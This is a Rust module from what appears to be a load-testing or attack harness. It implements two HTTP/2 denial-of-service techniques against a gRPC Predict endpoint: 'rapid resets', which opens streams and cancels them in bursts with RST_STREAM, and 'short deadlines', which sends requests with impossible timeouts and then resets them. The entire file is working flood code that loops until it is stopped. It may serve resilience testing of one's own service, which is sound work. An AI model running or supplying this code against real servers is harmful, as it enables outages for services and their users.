//! Requests that end as soon as they begin.

use std::io;
use std::time::Duration;

use super::attack::{Attack, Session};
use super::connection::AttackConnection;
use super::raw_http2::{flag, frame, grpc_message, kind};
use super::target::Target;

const PREDICT: &str = "/certimix.v1.MixedClassifier/Predict";
/// The code of RST_STREAM for a request that its caller no longer wants.
const CANCEL: u32 = 8;

/// Requests that are opened and reset in one write.
pub struct RapidResets {
    /// Requests in one write.
    pub burst: usize,
    pub pause: Duration,
}

impl Attack for RapidResets {
    fn name(&self) -> &'static str {
        "rapid resets"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        while !session.is_stopped() {
            let mut bytes = Vec::new();
            for _ in 0..self.burst {
                let stream = connection.new_stream();
                bytes.extend(connection.headers(stream, PREDICT, &[]));
                bytes.extend(frame(kind::RST_STREAM, flag::NONE, stream, &CANCEL.to_be_bytes()));
            }
            connection.send(&bytes)?;
            session.count_sent(self.burst as u64);
            session.wait(self.pause);
        }
        Ok(())
    }
}

/// Complete requests that their caller resets a moment later: a control loop with a deadline that
/// the server cannot meet.
pub struct ShortDeadlines {
    /// A Predict of one input.
    pub message: Vec<u8>,
    pub deadline: Duration,
    /// The time between two requests.
    pub pause: Duration,
}

impl Attack for ShortDeadlines {
    fn name(&self) -> &'static str {
        "short deadlines"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        let timeout = format!("{}u", self.deadline.as_micros());
        let message = grpc_message(self.message.len(), &self.message);
        while !session.is_stopped() {
            let stream = connection.start_request(PREDICT, &[("grpc-timeout", &timeout)])?;
            connection.send_data(stream, &message, session)?;
            connection.send(&frame(kind::DATA, flag::END_STREAM, stream, &[]))?;
            session.count_sent(1);
            session.wait(self.deadline);
            if !connection.has_ended(stream) {
                connection.send(&frame(kind::RST_STREAM, flag::NONE, stream, &CANCEL.to_be_bytes()))?;
            }
            session.wait(self.pause);
        }
        Ok(())
    }
}
